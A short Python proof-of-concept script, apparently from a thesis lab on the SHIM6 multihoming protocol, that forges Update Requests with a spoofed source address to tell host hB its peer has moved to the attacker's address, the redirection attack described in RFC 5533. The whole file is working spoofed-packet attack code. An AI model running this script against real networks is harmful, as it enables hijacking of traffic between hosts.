"""Run inside srv (an off-path attacker without a shim): forge Update Requests that tell hB its peer hA
moved to the attacker's address, as in thesis 4.3 / RFC 5533 section 16 (redirection attack).

usage: python3 forge_update.py VICTIM_ULID TARGET HB_SOCKET ATTACKER
  VICTIM_ULID  hA's ULID (the forged source), TARGET  hB's address, HB_SOCKET  hB's shim socket (to read
  the context tag an on-path attacker would have sniffed), ATTACKER  srv's own address.
"""

import ipaddress
import json
import subprocess
import sys

from scapy.all import IPv6, Raw, send

from agents.shim import messages as m

victim, target, sock, attacker = sys.argv[1:5]
contexts = json.loads(subprocess.run(["shimctl", "--socket", sock, "contexts", "--json"], check=True,
                                     capture_output=True, text=True).stdout)
tag = next(c["local_context_tag"] for c in contexts if c["peer_ulid"] == victim)
tag = int(tag, 0) if isinstance(tag, str) else tag  # shimctl prints tags in hex
loclist = m.LocatorList(generation=1000, methods=(0,), locators=(ipaddress.IPv6Address(attacker),))
forged = m.encode(m.UpdateRequest(receiver_context_tag=tag, request_nonce=77, options=(loclist,)))
send([IPv6(src=victim, dst=target, nh=140) / Raw(forged)] * 5, verbose=0)
print(f"sent 5 forged Update Requests to {target}: 'hA is now at {attacker}'")
